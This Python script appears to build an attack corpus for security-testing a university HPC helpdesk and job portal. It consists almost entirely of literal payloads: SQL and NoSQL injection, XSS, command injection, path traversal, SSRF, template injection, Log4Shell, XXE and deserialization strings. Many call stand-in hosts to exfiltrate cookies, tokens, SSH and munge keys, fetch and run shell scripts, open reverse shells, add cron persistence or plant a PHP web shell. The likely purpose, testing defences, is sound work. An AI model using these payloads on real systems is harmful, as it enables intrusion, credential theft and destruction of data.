#!/usr/bin/env python3
"""Attack corpus for the hpc theme (university HPC helpdesk / job portal).
Standard library only. Writes attacks.jsonl next to this file.

Literal payloads are listed one per line as `class value` under `## category`
headers. Inside values: U+23CE (return symbol) stands for LF, U+240D for CR,
U+21E5 for TAB, so that the block can stay a raw string."""
import json
import os
import random
import urllib.parse

SEED = 11302
PREFIX = "hab3"
rng = random.Random(SEED)

LITERALS = r'''
## sqli
plain-boolean ' OR '1'='1
plain-numeric-tautology 4821337 OR 1=1
jobsearch-union-select gpu' UNION SELECT username,password_hash FROM users-- -
jobid-union-null 4821337 UNION ALL SELECT NULL,version(),NULL--
nodename-mysql-sleep node017' AND SLEEP(5)-- -
jobid-pg-stacked-sleep 4821337; SELECT pg_sleep(10)--
partition-mssql-waitfor standard'; WAITFOR DELAY '0:0:5'--
account-oracle-dbms-pipe chem-dft-2024' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--
search-sqlite-master mpi' UNION SELECT sql,name FROM sqlite_master--
ticket-mysql-extractvalue slow I/O on scratch' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -
ticket-mysql-updatexml node017 down' AND updatexml(1,concat(0x7e,(SELECT @@datadir)),1)-- -
user-pg-cast-error jdoe' AND 1=CAST((SELECT current_user) AS int)--
user-mssql-convert-error kpatel' AND 1=CONVERT(int,@@version)--
jobname-stacked-drop md_run'; DROP TABLE jobs;--
ticket-stacked-insert-admin see log'; INSERT INTO users(name,role) VALUES('eve','admin')--
partition-comment-as-space gpu'/**/UNION/**/SELECT/**/1,2,3--
search-case-mixing conda' uNiOn SeLeCt null,table_name FrOm information_schema.tables-- -
search-mysql-versioned-comment spack' /*!50000UNION*/ /*!50000SELECT*/ 1,2-- -
plain-boolean+urlencode %27%20OR%201%3D1--
jobid-boolean+double-urlencode 4821337%2527%2520OR%25201%253D1--
jobid-orderby-probe 4821337 ORDER BY 10--
search-union-hex-literal gromacs' UNION SELECT 0x61646d696e,2-- -
user-mssql-char-function x' OR username=CHAR(97,100,109,105,110)--
user-pg-chr-concat x' OR name=chr(114)||chr(111)||chr(111)||chr(116)--
ticket-blind-substring 20931' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a
node-mssql-xp-cmdshell node017'; EXEC xp_cmdshell 'whoami'--
account-pg-copy-to-program bio'; COPY (SELECT '') TO PROGRAM 'curl attacker.example/p|sh'--
search-mysql-into-outfile x' UNION SELECT '<?php system($_GET[c]);?>',2 INTO OUTFILE '/var/www/html/s.php'-- -
search-mysql-load-file x' UNION SELECT LOAD_FILE('/etc/slurm/slurmdbd.conf'),2-- -
search-oracle-union-dual x' UNION SELECT banner,NULL FROM v$version--
jobname-oracle-utl-http-oob md' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '
partition-mssql-xp-dirtree-oob gpu'; EXEC master..xp_dirtree '\\attacker.example\x'--
user-mysql-dns-oob jdoe' AND LOAD_FILE(CONCAT('\\\\',(SELECT database()),'.attacker.example\\a'))-- -
plain-login-comment admin'--
login-mysql-hash-comment admin' #
user-paren-break ') OR ('1'='1
user-double-paren-dquote ")) OR 1=1-- -
jobid-numeric-group-concat 1 AND 1=2 UNION SELECT 1,group_concat(user,0x3a,authentication_string) FROM mysql.user
sort-orderby-case (CASE WHEN (SELECT substr(password,1,1) FROM users WHERE name='root')='a' THEN started_at ELSE job_id END)
sort-orderby-sleep started_at,(SELECT SLEEP(5))
limit-mysql-procedure-analyse 10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)
tag-pg-jsonb-tautology x' OR '{"a":1}'::jsonb @> '{}'::jsonb--
user-fullwidth-quote-bestfit jdoe＇ OR 1=1--
user-overlong-utf8-quote jdoe%C0%A7 OR 1=1--
user-iis-u-encoding jdoe%u0027%20OR%201=1--
jobid-mysql-float-union 4821337.0UNION SELECT user(),2-- -
search-sqlite-concat-subquery x' || (SELECT sqlite_version()) || '
user-pg-blind-case-sleep x' AND (SELECT CASE WHEN (SELECT current_setting('is_superuser'))='on' THEN pg_sleep(5) ELSE pg_sleep(0) END) IS NULL--
node-mssql-if-waitfor node017'; IF (SELECT system_user)='sa' WAITFOR DELAY '0:0:5'--
search-mysql-benchmark x' AND BENCHMARK(5000000,MD5('x'))-- -
partition-newline-as-space gpu'%0aUNION%0aSELECT%0a1,2--
partition-tab-as-space gpu'⇥OR⇥1=1--
search-plus-space gpu'+OR+1=1--
user-oracle-ctxsys-error x' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--
search-information-schema-columns gpu' AND 1=0 UNION SELECT column_name,NULL FROM information_schema.columns WHERE table_name='accounts'-- -
ticket-note-delete-paren Job 4821337 failed'); DELETE FROM tickets WHERE ('1'='1
plain-like-tautology ' OR 'a' LIKE 'a
node-comparison-tautology node017' OR 2>1-- -
queue-true-tautology long' OR TRUE--
user-ascii-substr-blind jdoe' AND ASCII(SUBSTR((SELECT user()),1,1))>64-- -
path-sqlite-load-extension x' UNION SELECT load_extension('/scratch/jdoe/evil.so'),1--
ticket-pg-lo-import 20931'; SELECT lo_import('/etc/passwd')--
quota-stacked-update jdoe'; UPDATE quotas SET limit_tb=9999 WHERE username='jdoe';--
user-mysql-grant-all x'; GRANT ALL PRIVILEGES ON *.* TO 'eve'@'%';-- -
search-db2-sysibm x' UNION SELECT versionnumber,NULL FROM sysibm.sysversions--
user-pg-from-sleep jdoe' AND 1=(SELECT 1 FROM pg_sleep(5))--
jobname-pg-concat-sleep md_run'||pg_sleep(5)--
user-mysql-if-sleep jdoe' AND IF(1=1,SLEEP(5),0) AND 'a'='a
jobid-mysql-rlike-case 4821337 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))
ticket-mssql-shutdown 20931';SHUTDOWN WITH NOWAIT;--
user-mssql-xp-fileexist-oob x';DECLARE @q varchar(99);SET @q='\\attacker.example\s';EXEC master.dbo.xp_fileexist @q;--
ticket-mysql-hash-comment-newline close ticket' OR 1=1#⏎
jobid-pg-stacked-dollar-quote 4821337; CREATE TABLE t(c text); COPY t FROM PROGRAM $$id$$;--
## xss
plain-script-tag <script>alert(document.domain)</script>
ticket-img-onerror Job 4821337 failed <img src=x onerror=alert(1)>
ticket-svg-onload-cookie-exfil node017 keeps dying <svg/onload=fetch('//attacker.example/c?'+document.cookie)>
note-svg-animate-onbegin node[001-032] <svg><animate onbegin=alert(1) attributeName=x dur=1s>
attr-break-external-script gpu"><script src=https://attacker.example/x.js></script>
attr-single-quote-onmouseover standard' onmouseover='alert(1)
attr-autofocus-onfocus md_run" autofocus onfocus="alert(document.cookie)
href-plain-javascript javascript:alert(1)
markdown-link-javascript See [Slurm docs](javascript:alert(document.cookie)) for --array syntax
markdown-link-entity-colon [quota form](javascript&#58;alert(1))
href-case-mixing JaVaScRiPt:alert(document.domain)
href-decimal-entities &#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)
ticket-anchor-hex-entity Docs: <a href="&#x6A;avascript:alert(1)">module list</a>
ticket-script+urlencode %3Cscript%3Ealert(1)%3C%2Fscript%3E
ticket-script+double-urlencode %253Cscript%253Ealert(1)%253C%252Fscript%253E
json-unicode-escape-img \u003cimg src=x onerror=alert(1)\u003e
js-block-breakout </script><script>alert(1)</script>
js-string-fromcharcode md_run';alert(String.fromCharCode(88,83,83));//
js-string-escaped-dquote jdoe\";alert(1);//
textarea-breakout ticket body</textarea><script>alert(1)</script>
iframe-srcdoc-entities <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">
details-ontoggle Stack trace: <details open ontoggle=alert(1)>
body-onload <body onload=alert(1)>
input-autofocus <input autofocus onfocus=alert(1)>
video-source-onerror <video><source onerror="alert(1)">
audio-onerror GPU log: <audio src=x onerror=alert(1)>
mxss-math-mglyph <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
mxss-noscript-title <noscript><p title="</noscript><img src=x onerror=alert(1)>">
object-data-base64 <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
embed-javascript <embed src="javascript:alert(1)">
form-action-javascript <form action=javascript:alert(1)><button>Resubmit job</button></form>
button-formaction <form><button formaction=javascript:alert(1)>cancel job</button></form>
meta-refresh-javascript <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
base-href-hijack <base href="//attacker.example/">
style-import-exfil <style>@import'//attacker.example/x.css';</style>
custom-tag-onclick <x onclick=alert(1)>click to see node list</x>
img-atob-eval <img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>
img-js-unicode-identifier <img src=x onerror=\u0061lert(1)>
img-entity-handler <img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
script-case-mixing <ScRiPt>alert(1)</sCrIpT>
nested-strip-bypass <scr<script>ipt>alert(1)</scr</script>ipt>
svg-script-entities <svg><script>alert&#40;1&#41;</script></svg>
img-slash-separators <img/src/onerror=alert(1)>
img-tab-before-equals <img src=x onerror⇥=alert(1)>
fullwidth-script-nfkc ＜script＞alert(1)＜/script＞
anchor-tab-entity-in-scheme <a href="java&#x09;script:alert(1)">scratch docs</a>
anchor-leading-space-scheme <a href=" javascript:alert(1)">open</a>
svg-xlink-href <svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">open log</text></a></svg>
img-token-exfil <img src="x" onerror="fetch('https://attacker.example/k',{method:'POST',body:localStorage.getItem('token')})">
script-image-beacon <script>new Image().src='//198.51.100.7/?c='+document.cookie</script>
markdown-image-attr-break ![scaling plot](x" onerror="alert(1))
html-table-img-onerror <table><tr><td>node017</td><td><img src=x onerror=alert(1)></td></tr></table>
markdown-table-img-onerror | node | state |⏎|---|---|⏎| node017 | <img src=x onerror=alert(1)> |
csti-angular {{constructor.constructor('alert(1)')()}}
csti-vue {{_c.constructor('alert(1)')()}}
iframe-javascript-src <iframe src="javascript:alert(1)"></iframe>
select-autofocus <select autofocus onfocus=alert(1)></select>
img-src-eval-alt <img src=x:alert(alt) onerror=eval(src) alt=0>
svg-settimeout-concat <svg onload=setTimeout('ale'+'rt(1)')>
img-bracket-concat <img src=x onerror=window['al'+'ert'](1)>
img-radix-tostring <img src=x onerror=top[8680439..toString(30)](1)>
script-location-hash <script>eval(location.hash.slice(1))</script>
anchor-data-uri <a href="data:text/html,<script>alert(1)</script>">download slurm-4821337.out</a>
attr-break-img partition=gpu"><img src=x onerror=alert(1)>
title-breakout </title><script>alert(1)</script>
comment-confusion <!--<img src="--><img src=x onerror=alert(1)//">
img-dynamic-import <img src=x onerror=import('//attacker.example/m.js')>
svg-style-img <svg><style><img src=x onerror=alert(1)></style></svg>
custom-tag-pointerover <xss onpointerover=alert(1) style=display:block>hover for details</xss>
img-tagged-template <img src=x onerror=alert`1`>
## cmdi
plain-semicolon-id ; id
user-semicolon-shadow jdoe; cat /etc/shadow
user-and-curl-pipe-bash jdoe && curl -s http://attacker.example/s.sh | bash
jobname-pipe-nc-shell md_run | nc 203.0.113.5 4444 -e /bin/sh
module-semicolon-wget-sh gromacs/2023.3; wget -qO- http://attacker.example/x | sh
plain-dollar-paren $(id)
plain-backtick `whoami`
jobname-nested-substitution-exfil run_$(curl attacker.example/$(whoami))
jobid-or-ping 4821337 || ping -c 10 127.0.0.1
nodelist-newline+urlencode node017%0aid
nodelist-literal-newline node017⏎id
user-ifs-var jdoe;${IFS}cat${IFS}/etc/passwd
user-ifs-no-brace jdoe;cat$IFS/etc/passwd
partition-brace-expansion gpu;{cat,/etc/passwd}
user-quote-splitting jdoe;c'a't /etc/pa''sswd
user-backslash-splitting jdoe;c\at /e\tc/pa\sswd
user-glob-obfuscation jdoe;/???/c?t /???/p?ss??
jobname-printf-octal md_run;$(printf '\151\144')
jobname-base64-pipe-sh md_run;echo aWQ= | base64 -d | sh
user-bash-dev-tcp-revshell jdoe; bash -i >& /dev/tcp/203.0.113.9/443 0>&1
user-python-revshell jdoe; python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
jobname-sleep-comment md_run; sleep 10 #
partition-pipe-sleep gpu | sleep 10
win-ampersand-ping-n node017 & ping -n 10 127.0.0.1 &
win-ampersand-whoami jdoe & whoami
win-pipe-type-winini scratch | type C:\Windows\win.ini
win-powershell-iex-downloadstring jdoe & powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')"
win-powershell-encodedcommand jdoe & powershell -enc SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQAvAHAALgBwAHMAMQAgAC0AVQBzAGUAQgBhAHMAaQBjAFAAYQByAHMAaQBuAGcAKQA=
sbatch-arg-wrap md_run --wrap="curl http://attacker.example/x|sh"
ssh-arg-proxycommand -oProxyCommand="sh -c 'curl attacker.example/k|sh'" login1
rsync-arg-rsh -e 'sh -c "curl attacker.example|sh"' x:/scratch/jdoe/
tar-arg-checkpoint-action --checkpoint=1 --checkpoint-action=exec=sh /scratch/jdoe/x.sh
find-arg-exec /scratch/jdoe -exec sh -c 'curl -d @/etc/passwd attacker.example' ;
git-arg-upload-pack --upload-pack=touch /tmp/pwn
curl-arg-output-authorized-keys -o /home/jdoe/.ssh/authorized_keys http://attacker.example/k
wget-arg-post-file --post-file=/etc/munge/munge.key http://attacker.example/
zip-arg-unzip-command -TT 'sh -c id' -T
sed-expr-execute-flag 1s/.*/id/e
awk-program-system BEGIN{system("id")}
sbatch-arg-export-ld-preload --export=ALL,LD_PRELOAD=/scratch/jdoe/evil.so job.sh
module-semicolon-curl-sh gcc/12; curl -s attacker.example/k | sh
script-line-rm-home python3 train.py --epochs 5 ; rm -rf ~
jobname-download-exec $(wget -q -O /tmp/.x http://198.51.100.23/x && chmod +x /tmp/.x && /tmp/.x)
dquote-breakout md_run"; id; echo "
squote-breakout md_run'; id; echo '
inline-substitution-mid a$(id)b
backtick-dns-exfil `nslookup $(whoami).attacker.example`
user-curl-upload-key jdoe;curl -d @/home/jdoe/.ssh/id_rsa https://attacker.example/u
user-crontab-persistence jdoe && crontab -l | { cat; echo "* * * * * curl attacker.example/b|sh"; } | crontab -
user-authorized-keys-append jdoe;echo 'ssh-ed25519 AAAAFAKEKEY attacker' >> ~/.ssh/authorized_keys
user-semicolon+urlencode jdoe%3Bid
user-andand+urlencode jdoe%26%26whoami
user-semicolon+double-urlencode jdoe%253Bid
user-ansi-c-quoting jdoe;$'\x69\x64'
user-variable-concat jdoe;X=i;Y=d;$X$Y
user-path-substring-slash jdoe;${PATH:0:1}usr${PATH:0:1}bin${PATH:0:1}id
user-rev-herestring jdoe;rev<<<'di'|sh
win-cmd-c-whoami node017 & cmd /c whoami
win-powershell-get-content jdoe | powershell -c "Get-Content $env:USERPROFILE\.ssh\id_rsa"
win-certutil-download jdoe & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\a.exe & %TEMP%\a.exe
perl-exec-sh jdoe; perl -e 'exec "/bin/sh"'
udp-revshell-nohup jdoe;nohup /bin/sh -c 'sh -i >/dev/udp/203.0.113.9/53 0<&1 2>&1' &
file-read-substitution $(</etc/passwd)
env-dump-dev-tcp jdoe;env > /dev/tcp/203.0.113.9/80
## traversal
plain-dotdot-passwd ../../../../etc/passwd
scratch-prefix-dotdot-shadow /scratch/jdoe/../../../etc/shadow
slurm-out-dotdot-ssh-key logs/slurm-4821337.out/../../../../../root/.ssh/id_rsa
dotdot-slash+urlencode ..%2f..%2f..%2fetc%2fpasswd
dotdot-slash+double-urlencode ..%252f..%252f..%252fetc%252fpasswd
dots-and-slash+urlencode %2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
overlong-2byte-slash ..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
overlong-3byte-slash ..%e0%80%af..%e0%80%af..%e0%80%afetc/passwd
iis-u-encoded-slash ..%u2215..%u2215..%u2215etc%u2215passwd
win-backslash-winini ..\..\..\windows\win.ini
win-backslash+urlencode ..%5c..%5c..%5cwindows%5cwin.ini
strip-bypass-quad-dot ....//....//....//etc/passwd
strip-bypass-dot-dot-slash ..././..././..././etc/passwd
project-prefix-null-byte /project/astro/../../etc/passwd%00.h5
absolute-path-passwd /etc/passwd
proc-self-environ /proc/self/environ
proc-cwd-settings ../../../../proc/self/cwd/config/settings.py
scratch-other-user-history /scratch/jdoe/run1/../../../../home/kpatel/.bash_history
slurmd-spool-other-job ../../../../var/spool/slurmd/job4821338/slurm_script
slurm-conf-read ../../../../etc/slurm/slurm.conf
munge-key-read /scratch/jdoe/out/../../../../etc/munge/munge.key
win-double-backslash-sam ..\\..\\..\\..\\Windows\\System32\\config\\SAM
win-absolute-hosts C:\Windows\System32\drivers\etc\hosts
win-backslash+double-urlencode ..%255c..%255c..%255cwindows%255cwin.ini
dots+urlencode-slash-plain %2e%2e/%2e%2e/%2e%2e/etc/passwd
half-encoded-dot .%2e/.%2e/.%2e/.%2e/etc/passwd
tomcat-semicolon-path-param ..;/..;/..;/etc/passwd
tomcat-semicolon-web-inf /static/..;/WEB-INF/web.xml
mixed-slash-quad-dot ....\/....\/....\/etc/passwd
fullwidth-slash-nfkc ..／..／..／etc／passwd
fullwidth-slash+urlencode ..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd
home-prefix-root-keys /home/jdoe/../../root/.ssh/authorized_keys
php-filter-wrapper php://filter/convert.base64-encode/resource=../config.php
log-prefix-dotdot /var/log/slurm/../../../etc/passwd
deep-dotdot-hosts ../../../../../../../../../../../../etc/hosts
results-prefix-encoded-dots results/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/group
tarball-prefix-dotdot /scratch/jdoe/out.tar.gz/../../../../../etc/passwd
zip-slip-member-name ../../../../home/jdoe/.bashrc
tilde-root-key ~root/.ssh/id_rsa
dev-dotdot /dev/../etc/passwd
null-byte-extension ../../etc/passwd%00.out
overlong-dot %c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
win-bootini+urlencode ..%5c..%5c..%5c..%5cboot.ini
proc-self-cmdline /proc/self/cmdline
sssd-conf-read ../../../../../etc/sssd/sssd.conf
## ssrf
plain-aws-imds-creds http://169.254.169.254/latest/meta-data/iam/security-credentials/
gcp-metadata-token http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token
gcp-metadata-hostname http://metadata.google.internal/computeMetadata/v1/?recursive=true
azure-imds http://169.254.169.254/metadata/instance?api-version=2021-02-01
alibaba-metadata http://100.100.100.200/latest/meta-data/
slurmctld-port http://127.0.0.1:6817/
slurmrestd-jobs http://localhost:6820/slurm/v0.0.40/jobs
tomcat-manager-loopback http://127.0.0.1:8080/manager/html
decimal-ip-loopback http://2130706433/
hex-ip-loopback http://0x7f000001/
octal-ip-loopback http://017700000001/
short-ip-loopback http://127.1/slurm/v0.0.40/diag
zero-ip http://0/
ipv6-loopback-ssh http://[::1]:22/
ipv4-mapped-ipv6 http://[::ffff:127.0.0.1]/
ipv4-mapped-ipv6-hex-imds http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/
dns-name-to-internal http://169-254-169-254.attacker.example/latest/meta-data/
userinfo-confusion http://attacker.example@127.0.0.1:9200/_cat/indices
fragment-confusion http://127.0.0.1#@attacker.example/
open-redirect-to-imds http://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/
gopher-redis-set gopher://127.0.0.1:6379/_SET%20x%20%22pwn%22%0D%0ACONFIG%20SET%20dir%20/root/.ssh%0D%0ASAVE%0D%0A
gopher-smtp gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E%0D%0A
dict-memcached dict://127.0.0.1:11211/stats
file-scheme-passwd file:///etc/passwd
file-scheme-environ file:///proc/self/environ
consul-agent-rfc1918 http://10.0.0.5:8500/v1/agent/self
router-admin-rfc1918 http://192.168.1.1/admin
etcd-keys-rfc1918 http://172.16.0.10:2379/v2/keys/?recursive=true
k8s-secrets http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets
slurmdbd-internal-name http://slurmdbd.internal:6819/
enclosed-alnum-localhost http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ:6820/slurm/v0.0.40/jobs
enclosed-digits-loopback http://①②⑦.⓪.⓪.①/
backslash-parser-confusion http://127.0.0.1:80\@attacker.example/
octal-dotted-loopback http://0177.0.0.1/
hex-dotted-loopback http://0x7f.0x0.0x0.0x1/
two-part-imds http://169.254.43518/latest/meta-data/
decimal-imds http://2852039166/latest/meta-data/
aws-imds-ipv6 http://[fd00:ec2::254]/latest/meta-data/
prometheus-loopback http://localhost:9090/api/v1/targets
docker-socket-api http://127.0.0.1:2375/containers/json
kubelet-pods https://127.0.0.1:10250/pods
java-netdoc netdoc:///etc/passwd
ecs-credentials http://169.254.170.2/v2/credentials
case-mixing-jupyter HTTP://LOCALHOST:8888/api/sessions
percent-encoded-host http://%31%32%37%2e%30%2e%30%2e%31:6820/slurm/v0.0.40/jobs
## code
jinja2-cycler-popen {{ cycler.__init__.__globals__.os.popen('id').read() }}
jinja2-templatereference {{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}
jinja2-request-builtins {{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}
jinja2-warning-loop {% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}
jinja2-lipsum-globals {{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}
jinja2-flashed-open {{ get_flashed_messages.__globals__.__builtins__.open('/etc/munge/munge.key').read() }}
jinja2-attr-hex-escape {{ ()|attr('\x5f\x5fclass\x5f\x5f')|attr('\x5f\x5fbase\x5f\x5f')|attr('\x5f\x5fsubclasses\x5f\x5f')() }}
twig-filter-system {{['id']|filter('system')}}
twig-undefined-filter-callback {{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
smarty-system-tag {system('id')}
freemarker-execute-assign <#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
freemarker-execute-inline ${"freemarker.template.utility.Execute"?new()("id")}
velocity-class-inspect #set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))
velocity-forname #set($s="")#set($r=$s.getClass().forName("java.lang.Runtime").getRuntime())$r.exec("id")
thymeleaf-preprocess __${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
erb-backtick <%= `id` %>
mako-module-os ${self.module.cache.util.os.system('id')}
tornado-import {% import os %}{{ os.popen('id').read() }}
pug-interpolation #{global.process.mainModule.require('child_process').execSync('id')}
ejs-output <%= global.process.mainModule.require('child_process').execSync('id') %>
nunjucks-range-constructor {{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
dot-js-interpolation {{= global.process.mainModule.require('child_process').execSync('id') }}
razor-process-start @System.Diagnostics.Process.Start("cmd.exe","/c whoami")
django-settings-secret {{ settings.SECRET_KEY }}
sbatch-jobname-jinja2 #SBATCH --job-name={{ cycler.__init__.__globals__.os.popen('id').read() }}
spel-runtime-exec ${T(java.lang.Runtime).getRuntime().exec('id')}
spel-hash-array-exec #{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id'})}
spel-ioutils-output *{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}
ognl-member-access %{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
ognl-runtime ${(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}
jsp-el-reflection ${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}
mvel-runtime @{java.lang.Runtime.getRuntime().exec('id')}
python-eval-import-os __import__('os').system('id')
python-eval-subprocess __import__("subprocess").check_output(["cat","/etc/passwd"])
node-eval-child-process require('child_process').exec('curl attacker.example|sh')
php-eval-system system('id');
python-format-string-globals {user.__init__.__globals__[CONFIG][SECRET_KEY]}
filter-expr-python-popen state == 'FAILED' and __import__('os').popen('id').read()
log4shell-ldap ${jndi:ldap://attacker.example/a}
log4shell-rmi ${jndi:rmi://198.51.100.4:1099/x}
log4shell-lower-lookup ${${lower:j}ndi:${lower:l}dap://attacker.example/a}
log4shell-default-value-split ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/x}
log4shell-dns-env-exfil ${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}
log4shell-env-nan ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}
log4shell-hostname-lookup ${jndi:ldap://${hostName}.attacker.example/}
log4shell+urlencode %24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D
useragent-log4shell-ldaps sbatch/23.02 ${jndi:ldaps://attacker.example:443/o}
proto-pollution-isadmin {"__proto__":{"isAdmin":true}}
proto-pollution-constructor {"constructor":{"prototype":{"role":"admin"}}}
proto-pollution-node-options {"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require('child_process').execSync('id').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}
proto-pollution-ejs-outputfunction __proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//
csv-dde-cmd =cmd|'/C calc'!A0
csv-hyperlink-exfil =HYPERLINK("http://attacker.example/?d="&A1,"Click for quota report")
csv-plus-powershell +cmd|'/C powershell IEX(wget attacker.example/p)'!A0
csv-minus-dde -2+3+cmd|'/C calc'!A0
csv-webservice-exfil =WEBSERVICE("https://attacker.example/?"&A2)
csv-importxml-exfil =IMPORTXML(CONCAT("http://attacker.example/?",A2),"//a")
csv-dde-function =DDE("cmd";"/C calc";"x")
xxe-file-entity <?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><job><name>&x;</name></job>
xxe-parameter-entity-oob <!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/x.dtd">%d;]><r/>
xinclude-slurm-conf <job xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/slurm/slurm.conf"/></job>
xxe-billion-laughs <!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><r>&d;</r>
xxe-svg-upload <?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>
yaml-python-apply !!python/object/apply:os.system ["id"]
yaml-python-new-subprocess !!python/object/new:subprocess.check_output [["curl","attacker.example"]]
yaml-snakeyaml-scriptengine !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/y.jar"]]]]
pickle-protocol0-raw cos⏎system⏎(S'id'⏎tR.
pickle-protocol0-base64 Y29zCnN5c3RlbQooUydpZCcKdFIu
fastjson-jdbcrowset {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example/x","autoCommit":true}
jackson-default-typing-jdbcrowset ["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"rmi://198.51.100.4/x","autoCommit":true}]
jsonnet-objectdataprovider {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
php-unserialize-app-class O:10:"JobLogFile":1:{s:4:"path";s:11:"/etc/passwd";}
php-phar-wrapper phar:///scratch/jdoe/upload.jpg/test.txt
## nosqli
plain-ne-null {"$ne": null}
login-gt-empty {"username": "admin", "password": {"$gt": ""}}
login-ne-password {"username": "admin", "password": {"$ne": "x"}}
where-sleep {"$where": "sleep(5000)"}
where-tautology {"$where": "this.owner == 'jdoe' || true"}
jobfilter-where-function {"partition": "gpu", "$where": "function(){return true}"}
user-regex-prefix {"user": {"$regex": "^a"}}
password-regex-blind {"username": "root", "password": {"$regex": "^p.*"}}
or-role-admin {"$or": [{"owner": "jdoe"}, {"role": "admin"}]}
owner-nin-empty {"owner": {"$nin": []}}
querystring-ne user[$ne]=jdoe&password[$ne]=
querystring-regex-exists state[$regex]=.*&owner[$exists]=true
where-js-string-breakout jdoe'; return true; var x='
where-js-or-tautology jdoe' || '1'=='1
where-js-infinite-loop jdoe'; while(true){}; var x='
aggregate-lookup-users [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "username", "as": "u"}}]
expr-function-sleep {"$expr": {"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}}
couchdb-selector-gt-null {"selector": {"_id": {"$gt": null}}}
where-keys-probe {"$where": "Object.keys(this)[0].match('^pass')"}
login-in-list {"username": {"$in": ["admin", "root", "hpcadmin"]}, "password": {"$gt": ""}}
owner-type-any {"owner": {"$type": 2}, "quota_tb": {"$gte": 0}}
querystring-gt-empty username=admin&password[$gt]=
expr-strlen-password {"$expr": {"$gt": [{"$strLenCP": "$password"}, 10]}}
querystring-where jobid[$where]=sleep(5000)
## crlf
logline-lf-forged-grant job done⏎2024-05-01 12:00:00 INFO user=admin action=grant_sudo status=ok
logline-crlf+urlencode-sshd node017%0d%0a[INFO] sshd: Accepted publickey for root from 10.0.0.1
